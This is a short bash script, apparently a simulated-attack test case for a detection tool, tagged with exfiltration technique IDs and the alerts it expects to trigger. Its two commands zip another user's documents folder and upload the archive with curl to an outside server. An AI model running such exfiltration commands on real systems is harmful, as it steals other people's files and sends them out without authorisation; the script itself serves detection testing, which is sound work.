#!/usr/bin/env bash
# tactic: exfiltration
# technique: T1048.003 Exfiltration Over Unencrypted Non-C2 Protocol; T1560.001 Archive via Utility
# behaviour: zips another user's documents and uploads the archive with curl -T (HTTP PUT) to an outside web server
# as: root
# needs: remote
# expect: mass_read, staging, new_destination
set -u
cd "$SNTL_VICTIM_HOME" && zip -qr "$SNTL_TMP/d.zip" docs
curl -s -T "$SNTL_TMP/d.zip" "http://$SNTL_REMOTE:8080/up/d.zip" > /dev/null || true
